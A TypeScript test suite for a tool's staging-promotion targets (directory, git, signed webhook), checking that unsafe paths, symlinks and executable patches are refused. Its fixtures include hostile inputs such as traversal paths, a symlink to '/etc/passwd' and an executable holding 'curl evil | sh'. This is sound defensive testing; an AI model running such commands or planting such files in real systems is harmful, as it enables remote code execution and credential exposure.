/**
 * Staging targets against real infrastructure: temp folders, real git repositories (bare and
 * not), and a loopback HTTP receiver that checks signatures the way a user's receiver would.
 */
import { execFile } from 'node:child_process';
import { createHash } from 'node:crypto';
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { mkdtemp, readdir, readFile, readlink, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { afterAll, describe, expect, it } from 'vitest';
import type { PromotedFile, PromotionPayload } from '../src/review/promotion-target.js';
import { webhookOptions } from '../src/review/index.js';
import { postSigned } from '../src/review/signed-post.js';
import { createTarget, DirectoryTarget, GitTarget, TargetConfigSchema, WebhookTarget } from '../src/review/targets/index.js';
import { signWebhook, verifyWebhookSignature, WEBHOOK_SIGNATURE_HEADER } from '../src/review/webhook-signature.js';
import { AppError } from '../src/shared/index.js';
import { configError } from './helpers/config-error.js';

const exec = promisify(execFile);
const cleanups: (() => Promise<void>)[] = [];
afterAll(async () => {
  for (const c of cleanups.reverse()) await c();
});

async function tempDir(prefix: string): Promise<string> {
  const dir = await mkdtemp(join(tmpdir(), `airlock-${prefix}-`));
  cleanups.push(() => rm(dir, { recursive: true, force: true }));
  return dir;
}

const sha256 = (b: Buffer | string) => createHash('sha256').update(b).digest('hex');

function file(path: string, content: string): PromotedFile {
  const buf = Buffer.from(content, 'utf8');
  return { path, bytes: buf.length, sha256: sha256(buf), content: buf };
}

function payload(promotionId: string, over: Partial<PromotionPayload> = {}): PromotionPayload {
  const files = over.files ?? [file('a.txt', 'hello\n'), file('nested/dir/b.txt', `b of ${promotionId}\n`)];
  return {
    promotionId,
    jobId: 'job_abcdefgh123',
    target: 'staging-x',
    artifactDigest: `sha256:${sha256(files.map((f) => `${f.path}:${f.sha256}`).join('\n'))}`,
    files,
    patch: null,
    requester: { principal: 'alice', keyId: 'key_alice0001' },
    approvers: [
      { principal: 'bob', keyId: 'key_bob000001' },
      { principal: 'carol', keyId: 'key_carol0001' },
    ],
    downloadUrl: 'http://airlock.local/v1/promotions/x/artifacts.tar',
    appliedAt: '2025-01-02T03:04:05.000Z',
    ...over,
  };
}

/** Resolves to the AppError the promise rejected with (fails the test if it resolved). */
async function rejection(p: Promise<unknown>): Promise<AppError> {
  const err: unknown = await p.then(
    () => undefined,
    (e: unknown) => e,
  );
  expect(err).toBeInstanceOf(AppError);
  return err as AppError;
}

const BAD_PATHS = ['/etc/passwd', '../escape.txt', 'a/../../escape.txt', 'a//b.txt', 'a/', 'nul\0byte', '', './a.txt', '.git/config', 'sub/.GIT/hooks/x'];

describe('DirectoryTarget', () => {
  it('publishes into versions/<id> and points current at it', async () => {
    const root = await tempDir('dir');
    const target = new DirectoryTarget({ name: 'dir', path: root });
    const p1 = payload('prm_first0001');
    const out = await target.apply(p1);

    expect(out).toEqual({ location: join(root, 'versions', 'prm_first0001'), details: { current: join(root, 'current') } });
    expect(await readlink(join(root, 'current'))).toBe('versions/prm_first0001');
    expect(await readFile(join(root, 'current', 'nested/dir/b.txt'), 'utf8')).toBe('b of prm_first0001\n');
    expect((await readdir(root)).sort()).toEqual(['current', 'versions']);
    expect(await readdir(join(root, 'versions'))).toEqual(['prm_first0001']);
    const manifest = JSON.parse(await readFile(join(root, 'current', '.airlock-promotion.json'), 'utf8'));
    expect(manifest).toMatchObject({
      promotionId: 'prm_first0001',
      jobId: p1.jobId,
      artifactDigest: p1.artifactDigest,
      requester: p1.requester,
      approvers: p1.approvers,
      appliedAt: p1.appliedAt,
    });
    expect(manifest.files).toEqual(p1.files.map((f) => ({ path: f.path, bytes: f.bytes, sha256: f.sha256 })));
  });

  it('moves current on the next promotion and re-applies idempotently', async () => {
    const root = await tempDir('dir');
    const target = new DirectoryTarget({ name: 'dir', path: root });
    await target.apply(payload('prm_first0001'));
    const p2 = payload('prm_second002', { files: [file('only.txt', 'two\n')] });
    await target.apply(p2);
    expect(await readlink(join(root, 'current'))).toBe('versions/prm_second002');
    expect(await readFile(join(root, 'current', 'only.txt'), 'utf8')).toBe('two\n');
    // the previous version stays, whole
    expect(await readFile(join(root, 'versions', 'prm_first0001', 'a.txt'), 'utf8')).toBe('hello\n');

    const again = await target.apply(p2);
    expect(again.location).toBe(join(root, 'versions', 'prm_second002'));
    expect((await readdir(join(root, 'versions'))).sort()).toEqual(['prm_first0001', 'prm_second002']);
    expect((await readdir(root)).sort()).toEqual(['current', 'versions']);

    // the same id with other content is a conflict, and current does not move
    const conflict = await rejection(target.apply({ ...p2, files: [file('only.txt', 'changed\n')], artifactDigest: 'sha256:other' }));
    expect(conflict.code).toBe('PROMOTION_APPLY_FAILED');
    expect(await readlink(join(root, 'current'))).toBe('versions/prm_second002');
    expect(await readFile(join(root, 'current', 'only.txt'), 'utf8')).toBe('two\n');
  });

  it('refuses unsafe paths and leaves nothing visible', async () => {
    const root = await tempDir('dir');
    const target = new DirectoryTarget({ name: 'dir', path: root });
    await target.apply(payload('prm_first0001'));
    for (const bad of [...BAD_PATHS, '.airlock-promotion.json']) {
      const err = await rejection(target.apply(payload('prm_badpath01', { files: [file('good.txt', 'ok\n'), file(bad, 'x')] })));
      expect(err.code, bad).toBe('PROMOTION_APPLY_FAILED');
    }
    const dupe = await rejection(target.apply(payload('prm_badpath01', { files: [file('x.txt', '1'), file('x.txt', '2')] })));
    expect(dupe.code).toBe('PROMOTION_APPLY_FAILED');
    const fileAndDir = await rejection(target.apply(payload('prm_badpath01', { files: [file('x', '1'), file('x/y', '2')] })));
    expect(fileAndDir.code).toBe('PROMOTION_APPLY_FAILED');
    const tampered = await rejection(target.apply(payload('prm_badpath01', { files: [{ ...file('x', '1'), content: Buffer.from('2') }] })));
    expect(tampered.code).toBe('PROMOTION_APPLY_FAILED');

    expect(await readdir(join(root, 'versions'))).toEqual(['prm_first0001']);
    expect((await readdir(root)).sort()).toEqual(['current', 'versions']);
    expect(await readlink(join(root, 'current'))).toBe('versions/prm_first0001');
    await expect(readFile(join(tmpdir(), 'escape.txt'))).rejects.toThrow();
  });
});

// ---------------------------------------------------------------- git

const GIT_ENV = { ...process.env, GIT_AUTHOR_NAME: 'Seed', GIT_AUTHOR_EMAIL: 'seed@test', GIT_COMMITTER_NAME: 'Seed', GIT_COMMITTER_EMAIL: 'seed@test', GIT_CONFIG_NOSYSTEM: '1' };

async function git(cwd: string, ...args: string[]): Promise<string> {
  const { stdout } = await exec('git', ['-c', 'init.defaultBranch=main', ...args], { cwd, env: GIT_ENV });
  return stdout;
}

async function bareRepo(): Promise<string> {
  const repo = join(await tempDir('git-bare'), 'repo.git');
  await git(tmpdir(), 'init', '-q', '--bare', repo);
  return repo;
}

const branchTip = (repo: string, branch = 'staging') => git(repo, 'rev-parse', `refs/heads/${branch}`).then((s) => s.trim());
const commitCount = (repo: string, branch = 'staging') => git(repo, 'rev-list', '--count', `refs/heads/${branch}`).then((s) => Number(s.trim()));

describe('GitTarget', () => {
  it('commits to the staging branch of an empty bare repository, then stays idempotent', async () => {
    const repo = await bareRepo();
    const target = new GitTarget({ name: 'git', repo, subdir: 'site' });
    const p1 = payload('prm_gitfirst01');
    const out = await target.apply(p1);

    expect(out.location).toMatch(/^[0-9a-f]{40}$/);
    expect(out.details).toMatchObject({ branch: 'staging', repo, alreadyApplied: false });
    expect(await branchTip(repo)).toBe(out.location);
    expect(await commitCount(repo)).toBe(1);
    expect(await git(repo, 'log', '-1', '--format=%an <%ae>|%cn <%ce>', 'staging')).toBe('Airlock <airlock@localhost>|Airlock <airlock@localhost>\n');
    expect(await git(repo, 'log', '-1', '--format=%B', 'staging')).toBe(
      [
        'airlock: promote job_abcdefgh123 to staging-x',
        '',
        'Promotion: prm_gitfirst01',
        'Job: job_abcdefgh123',
        `Artifact-Digest: ${p1.artifactDigest}`,
        'Requested-by: alice',
        'Approved-by: bob (key_bob000001)',
        'Approved-by: carol (key_carol0001)',
        '',
        '',
      ].join('\n'),
    );
    expect(await git(repo, 'show', 'staging:site/a.txt')).toBe('hello\n');
    expect(await git(repo, 'show', 'staging:site/nested/dir/b.txt')).toBe('b of prm_gitfirst01\n');
    expect((await git(repo, 'ls-tree', '-r', '--name-only', 'staging')).trim().split('\n')).toEqual(['site/a.txt', 'site/nested/dir/b.txt']);

    const again = await target.apply(p1);
    expect(again.location).toBe(out.location);
    expect(again.details).toMatchObject({ alreadyApplied: true });
    expect(await commitCount(repo)).toBe(1);

    // an id that merely starts with the first one is another promotion; same content still makes a commit
    const p2 = payload('prm_gitfirst0', { files: p1.files, approvers: [] });
    const out2 = await target.apply(p2);
    expect(out2.location).not.toBe(out.location);
    expect(await commitCount(repo)).toBe(2);
    expect(await git(repo, 'rev-parse', 'staging^{tree}')).toBe(await git(repo, 'rev-parse', `${out.location}^{tree}`));
    expect(await git(repo, 'log', '-1', '--format=%B', 'staging')).toContain('\nApproved-by: automatic (policy)\n');
  });

  it('applies a patch-only payload, and refuses a patch that does not apply without pushing', async () => {
    const repo = await bareRepo();
    const target = new GitTarget({ name: 'git', repo, subdir: 'site' });
    await target.apply(payload('prm_seed00001'));
    const patch = [
      'diff --git a/a.txt b/a.txt',
      '--- a/a.txt',
      '+++ b/a.txt',
      '@@ -1 +1 @@',
      '-hello',
      '+hello, patched',
      'diff --git a/new.txt b/new.txt',
      'new file mode 100644',
      '--- /dev/null',
      '+++ b/new.txt',
      '@@ -0,0 +1 @@',
      '+brand new',
      '',
    ].join('\n');
    const out = await target.apply(payload('prm_patch0001', { files: [], patch }));
    expect(await branchTip(repo)).toBe(out.location);
    expect(await git(repo, 'show', 'staging:site/a.txt')).toBe('hello, patched\n');
    expect(await git(repo, 'show', 'staging:site/new.txt')).toBe('brand new\n');
    expect(await commitCount(repo)).toBe(2);

    const badPatch = patch.replace('-hello\n', '-not what is there\n');
    const err = await rejection(target.apply(payload('prm_badpatch1', { files: [], patch: badPatch })));
    expect(err.code).toBe('PROMOTION_APPLY_FAILED');
    expect(err.retryable).toBe(false);
    expect(await branchTip(repo)).toBe(out.location);
    expect(await commitCount(repo)).toBe(2);
  });

  it('a patch may leave regular files only: a symlink, an executable, a gitlink, a mode change or a retargeted link is refused, nothing pushed', async () => {
    // staging already holds a symlink and an executable (put there by people, not by Airlock)
    const repo = await bareRepo();
    const seed = await tempDir('git-seed');
    await git(seed, 'init', '-q');
    await writeFile(join(seed, 'run.sh'), 'echo one\n', { mode: 0o755 });
    await writeFile(join(seed, 'a.txt'), 'hello\n');
    await exec('ln', ['-s', 'a.txt', join(seed, 'link')]);
    await git(seed, 'add', '.');
    await git(seed, '-c', 'user.name=seed', '-c', 'user.email=seed@localhost', 'commit', '-q', '-m', 'seed');
    await git(seed, 'push', '-q', repo, 'HEAD:refs/heads/staging');
    const tip = await branchTip(repo);
    const target = new GitTarget({ name: 'git', repo });
    const created = (path: string, mode: string, body: string) =>
      [`diff --git a/${path} b/${path}`, `new file mode ${mode}`, '--- /dev/null', `+++ b/${path}`, '@@ -0,0 +1 @@', `+${body}`, '\\ No newline at end of file', ''].join('\n');
    const refused: [string, string][] = [
      ['a symlink to /etc/passwd', created('passwd', '120000', '/etc/passwd')],
      ['an executable', created('deploy.sh', '100755', 'curl evil | sh')],
      ['a gitlink', created('sub', '160000', 'Subproject commit 1111111111111111111111111111111111111111')],
      ['a mode change', ['diff --git a/a.txt b/a.txt', 'old mode 100644', 'new mode 100755', ''].join('\n')],
      [
        'a retargeted symlink',
        ['diff --git a/link b/link', '--- a/link', '+++ b/link', '@@ -1 +1 @@', '-a.txt', '\\ No newline at end of file', '+/etc/passwd', '\\ No newline at end of file', ''].join(
          '\n',
        ),
      ],
    ];
    for (const [what, patch] of refused) {
      const err = await rejection(target.apply(payload('prm_mode00001', { files: [], patch })));
      expect(err.code, what).toBe('PROMOTION_APPLY_FAILED');
      expect(err.retryable, what).toBe(false);
      expect(err.message, what).toMatch(/regular files only/);
      expect(await branchTip(repo), what).toBe(tip);
    }
    // changing what an executable says keeps its mode; a new regular file is fine
    const ok = ['diff --git a/run.sh b/run.sh', '--- a/run.sh', '+++ b/run.sh', '@@ -1 +1 @@', '-echo one', '+echo two', ''].join('\n') + created('notes.txt', '100644', 'hi');
    const out = await target.apply(payload('prm_mode00002', { files: [], patch: ok }));
    expect(await git(repo, 'show', 'staging:run.sh')).toBe('echo two\n');
    expect(await git(repo, 'ls-tree', 'staging', 'run.sh', 'notes.txt')).toMatch(/^100644 blob \S+\tnotes\.txt\n100755 blob \S+\trun\.sh\n$/);
    expect(await branchTip(repo)).toBe(out.location);
  });

  it('refuses unsafe paths before touching the repository', async () => {
    const repo = await bareRepo();
    const target = new GitTarget({ name: 'git', repo });
    const first = await target.apply(payload('prm_gitfirst01'));
    for (const bad of BAD_PATHS) {
      const err = await rejection(target.apply(payload('prm_gitbad001', { files: [file('good.txt', 'ok\n'), file(bad, 'x')] })));
      expect(err.code, bad).toBe('PROMOTION_APPLY_FAILED');
    }
    expect(await branchTip(repo)).toBe(first.location);
    expect(await commitCount(repo)).toBe(1);
  });

  it("runs the receiving repository's own hooks, without our environment", async () => {
    const repo = await bareRepo();
    const seen = join(await tempDir('git-hook'), 'env.txt');
    await writeFile(join(repo, 'hooks', 'post-receive'), `#!/bin/sh\nenv > '${seen}'\n`, { mode: 0o755 });
    await new GitTarget({ name: 'git', repo }).apply(payload('prm_hookenv01'));
    const env = await readFile(seen, 'utf8');
    expect(env).toContain('GIT_TERMINAL_PROMPT=0');
    // none of this process's variables (read, never set: issue 11) reaches the hook; only what the
    // git runner sets (PATH, HOME, LC_ALL, GIT_*) and what git and the shell add themselves
    const own = new Set(['PATH', 'HOME', 'LC_ALL', 'PWD', 'OLDPWD', 'SHLVL', '_']);
    const ours = Object.keys(process.env).filter((n) => !own.has(n) && !n.startsWith('GIT_'));
    expect(ours.length).toBeGreaterThan(0);
    const hookNames = env.split('\n').map((l) => l.slice(0, l.indexOf('=')));
    expect(ours.filter((n) => hookNames.includes(n))).toEqual([]);
  });

  it('branches from the default HEAD of a non-bare repository, keeping its bytes unfiltered', async () => {
    const repo = await tempDir('git-work');
    await git(repo, 'init', '-q');
    await writeFile(join(repo, 'README.md'), 'readme\n');
    // would rewrite line endings on `git add`; promoted bytes must stay exact
    await writeFile(join(repo, '.gitattributes'), '*.txt text eol=crlf\n');
    await git(repo, 'add', '.');
    await git(repo, 'commit', '-q', '-m', 'seed');
    const main = await branchTip(repo, 'main');

    const target = new GitTarget({ name: 'git', repo, branch: 'release/staging' });
    const crlf = file('data.txt', 'one\r\ntwo\r\n');
    const out = await target.apply(payload('prm_nonbare01', { files: [crlf] }));
    expect(await branchTip(repo, 'release/staging')).toBe(out.location);
    expect((await git(repo, 'rev-parse', `${out.location}^`)).trim()).toBe(main);
    expect(await git(repo, 'show', 'release/staging:README.md')).toBe('readme\n');
    const { stdout } = await exec('git', ['cat-file', 'blob', 'release/staging:data.txt'], { cwd: repo, encoding: 'buffer' });
    expect(sha256(stdout)).toBe(crlf.sha256);
    // the repository's own checkout is untouched
    expect(await branchTip(repo, 'main')).toBe(main);
    expect((await git(repo, 'symbolic-ref', 'HEAD')).trim()).toBe('refs/heads/main');
    expect(await git(repo, 'status', '--porcelain')).toBe('');
  });
});

// ---------------------------------------------------------------- webhooks

interface Received {
  readonly url: string;
  readonly headers: IncomingMessage['headers'];
  readonly body: string;
}

/** A loopback receiver answering each request with the next planned status (the last one repeats). */
async function receiver(plan: number[], hold?: (n: number) => number): Promise<{ url: string; received: Received[] }> {
  const received: Received[] = [];
  const server: Server = createServer((req: IncomingMessage, res: ServerResponse) => {
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('end', () => {
      received.push({ url: req.url ?? '', headers: req.headers, body: Buffer.concat(chunks).toString('utf8') });
      const status = plan[Math.min(received.length, plan.length) - 1] ?? 200;
      const send = () => {
        res.writeHead(status, status >= 300 && status < 400 ? { location: '/redirected' } : {});
        res.end('receiver says hi');
      };
      const delayMs = hold?.(received.length) ?? 0;
      if (delayMs > 0) setTimeout(send, delayMs);
      else send();
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  cleanups.push(
    () =>
      new Promise<void>((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  );
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/hooks/airlock`, received };
}

const NOW_S = 1_750_000_000;
const SECRET = 'whsec-test-0123456789';

function webhook(url: string, over: Partial<ConstructorParameters<typeof WebhookTarget>[0]> = {}) {
  const sleeps: number[] = [];
  const target = new WebhookTarget({
    name: 'hook',
    url,
    secret: SECRET,
    attempts: 5,
    backoffMs: 10,
    timeoutMs: 2000,
    nowS: () => NOW_S,
    sleep: (ms) => {
      sleeps.push(ms);
      return Promise.resolve();
    },
    ...over,
  });
  return { target, sleeps };
}

describe('WebhookTarget', () => {
  it('delivers a signed event the receiver can verify, without file contents', async () => {
    const { url, received } = await receiver([200]);
    const { target } = webhook(url);
    const p = payload('prm_hook00001');
    const out = await target.apply(p);

    expect(received).toHaveLength(1);
    const [req] = received;
    expect(req!.headers['content-type']).toBe('application/json');
    expect(req!.headers['user-agent']).toBe('airlock-webhook/1');
    expect(out).toEqual({ location: url, details: { status: 200, attempts: 1, delivery: req!.headers['x-airlock-delivery'] } });
    const signature = req!.headers[WEBHOOK_SIGNATURE_HEADER] as string;
    expect(verifyWebhookSignature(SECRET, req!.body, signature, NOW_S + 5)).toBe(true);
    expect(verifyWebhookSignature('not-the-secret', req!.body, signature, NOW_S + 5)).toBe(false);
    expect(verifyWebhookSignature(SECRET, req!.body.replace('prm_hook00001', 'prm_hook00002'), signature, NOW_S + 5)).toBe(false);

    expect(JSON.parse(req!.body)).toEqual({
      event: 'promotion.apply',
      promotionId: 'prm_hook00001',
      jobId: p.jobId,
      target: p.target,
      artifactDigest: p.artifactDigest,
      artifacts: p.files.map((f) => ({ path: f.path, bytes: f.bytes, sha256: f.sha256 })),
      downloadUrl: p.downloadUrl,
      requester: p.requester,
      approvers: p.approvers,
      appliedAt: p.appliedAt,
    });
    expect(req!.body).not.toContain('b of prm_hook00001');
  });

  it('retries 5xx with exponential backoff and one delivery id', async () => {
    const { url, received } = await receiver([500, 503, 200]);
    const { target, sleeps } = webhook(url);
    const out = await target.apply(payload('prm_hook00001'));
    expect(out.details).toMatchObject({ status: 200, attempts: 3 });
    expect(received).toHaveLength(3);
    expect(sleeps).toEqual([10, 20]);
    expect(new Set(received.map((r) => r.headers['x-airlock-delivery'])).size).toBe(1);
    expect(received.map((r) => r.body)).toEqual([received[0]!.body, received[0]!.body, received[0]!.body]);
  });

  it('gives up after `attempts` tries of a failing receiver', async () => {
    const { url, received } = await receiver([500]);
    const { target, sleeps } = webhook(url, { attempts: 4 });
    const err = await rejection(target.apply(payload('prm_hook00001')));
    expect(err.code).toBe('PROMOTION_APPLY_FAILED');
    expect(err.message).toContain('4 attempt(s) (status 500)');
    expect(err.retryable).toBe(true);
    expect(received).toHaveLength(4);
    expect(sleeps).toEqual([10, 20, 40]);
  });

  it("a target from the policy delivers with WebhookOptionsSchema's defaults unless it sets its own", async () => {
    const defaults = webhookOptions();
    for (const own of [{}, { attempts: 2, backoffMs: 7 }]) {
      const { url, received } = await receiver([500]);
      const sleeps: number[] = [];
      const config = TargetConfigSchema.parse({ type: 'webhook', url, secret: 'HOOK_KEY', ...own });
      const target = createTarget('hook', config, {
        resolveSecret: () => SECRET,
        baseDir: '/',
        nowS: () => NOW_S,
        sleep: (ms) => {
          sleeps.push(ms);
          return Promise.resolve();
        },
      });
      await rejection(target.apply(payload('prm_hook00001')));
      const { attempts, backoffMs } = { ...defaults, ...own };
      expect(received).toHaveLength(attempts);
      expect(sleeps).toEqual(Array.from({ length: attempts - 1 }, (_, i) => backoffMs * 2 ** i));
    }
  });

  it('does not retry a 4xx, nor follow a redirect', async () => {
    const bad = await receiver([400]);
    const err = await rejection(webhook(bad.url).target.apply(payload('prm_hook00001')));
    expect(err.code).toBe('PROMOTION_APPLY_FAILED');
    expect(err.message).toContain('status 400');
    expect(bad.received).toHaveLength(1);

    const moved = await receiver([302, 200]);
    const redirect = await rejection(webhook(moved.url).target.apply(payload('prm_hook00001')));
    expect(redirect.message).toContain('status 302');
    expect(moved.received.map((r) => r.url)).toEqual(['/hooks/airlock']);
  });

  it('retries 429 and timeouts, and reports an unreachable receiver without throwing', async () => {
    const slow = await receiver([429, 200, 200], (n) => (n === 2 ? 1000 : 0));
    const out = await webhook(slow.url, { timeoutMs: 150 }).target.apply(payload('prm_hook00001'));
    expect(out.details).toMatchObject({ status: 200, attempts: 3 });
    expect(slow.received).toHaveLength(3);

    // a port nobody listens on: bind, note it, close
    const gone = await receiver([200]);
    await cleanups.pop()!();
    const res = await postSigned({ url: gone.url, secret: SECRET, body: { a: 1 }, attempts: 2, backoffMs: 0, timeoutMs: 1000, nowS: () => NOW_S });
    expect(res).toMatchObject({ ok: false, status: null, attempts: 2 });
    expect(res.ok ? '' : res.error).toMatch(/^network error/);
  });
});

describe('webhook signatures', () => {
  const body = '{"a":1}';

  it('accepts within the tolerance and rejects stale or future timestamps', () => {
    const header = signWebhook(SECRET, body, 1000);
    expect(header).toMatch(/^t=1000,v1=[0-9a-f]{64}$/);
    expect(verifyWebhookSignature(SECRET, body, header, 1000)).toBe(true);
    expect(verifyWebhookSignature(SECRET, body, header, 1300)).toBe(true);
    expect(verifyWebhookSignature(SECRET, body, header, 1301)).toBe(false);
    expect(verifyWebhookSignature(SECRET, body, header, 699)).toBe(false);
    expect(verifyWebhookSignature(SECRET, body, header, 1060, 30)).toBe(false);
  });

  it('rejects tampering and malformed headers', () => {
    const header = signWebhook(SECRET, body, 1000);
    const v1 = header.split('v1=')[1]!;
    expect(verifyWebhookSignature(SECRET, body, header.replace('t=1000', 't=1001'), 1000)).toBe(false);
    expect(verifyWebhookSignature(SECRET, body, `t=1000,v1=${'0'.repeat(64)},v1=${v1}`, 1000)).toBe(true);
    for (const bad of ['', 'garbage', `v1=${v1}`, 't=1000', `t=abc,v1=${v1}`, `t=1000,t=1000,v1=${v1}`, `t=1000,v1=${v1.slice(2)}`, `t=1000,v0=${v1}`]) {
      expect(verifyWebhookSignature(SECRET, body, bad, 1000), bad).toBe(false);
    }
    expect(verifyWebhookSignature(SECRET, body, undefined, 1000)).toBe(false);
  });
});

describe('target configuration', () => {
  const deps = (secrets: Record<string, string> = {}) => ({ resolveSecret: (n: string) => secrets[n], baseDir: '/srv/airlock', nowS: () => NOW_S });

  it('builds each target type, resolving relative paths and the secret by name', () => {
    const dir = createTarget('d', TargetConfigSchema.parse({ type: 'directory', path: 'staging/site' }), deps());
    expect(dir).toBeInstanceOf(DirectoryTarget);
    expect((dir as DirectoryTarget).root).toBe('/srv/airlock/staging/site');
    const repo = createTarget('g', TargetConfigSchema.parse({ type: 'git', repo: '/var/repos/x.git' }), deps());
    expect(repo).toMatchObject({ type: 'git', repo: '/var/repos/x.git', branch: 'staging' });
    const hook = createTarget('h', TargetConfigSchema.parse({ type: 'webhook', url: 'https://example.com/hook', secret: 'HOOK_SECRET' }), deps({ HOOK_SECRET: 's' }));
    expect(hook).toMatchObject({ type: 'webhook', name: 'h', url: 'https://example.com/hook' });
  });

  it('refuses a missing secret by name, never by value', () => {
    const config = TargetConfigSchema.parse({ type: 'webhook', url: 'https://example.com/hook', secret: 'HOOK_SECRET' });
    const message = configError(() => createTarget('prod-hook', config, deps({ OTHER: 'value-that-must-not-leak' })));
    expect(message).toContain('prod-hook');
    expect(message).toContain('HOOK_SECRET');
    expect(message).not.toContain('value-that-must-not-leak');
  });

  it('rejects bad entries', () => {
    const bad = [
      { type: 'directory', path: '' },
      { type: 'directory', path: '/x', extra: true },
      { type: 'git', repo: '/r', branch: '../main' },
      { type: 'git', repo: '/r', branch: 'a..b' },
      { type: 'git', repo: '/r', branch: 'x.lock' },
      { type: 'git', repo: '/r', branch: '-x' },
      { type: 'git', repo: '/r', subdir: '../up' },
      { type: 'webhook', url: 'ftp://example.com/x', secret: 'S' },
      { type: 'webhook', url: 'https://user:pw@example.com/x', secret: 'S' },
      { type: 'webhook', url: 'https://example.com/x', secret: 'lowercase' },
      { type: 'webhook', url: 'https://example.com/x', secret: 'S', attempts: 11 },
      { type: 'webhook', url: 'https://example.com/x', secret: 'S', timeoutMs: 50 },
      { type: 's3', bucket: 'x' },
    ];
    for (const entry of bad) expect(TargetConfigSchema.safeParse(entry).success, JSON.stringify(entry)).toBe(false);
    expect(TargetConfigSchema.parse({ type: 'git', repo: 'r', branch: 'release/v1.2', subdir: 'out/site' })).toEqual({
      type: 'git',
      repo: 'r',
      branch: 'release/v1.2',
      subdir: 'out/site',
    });
  });
});
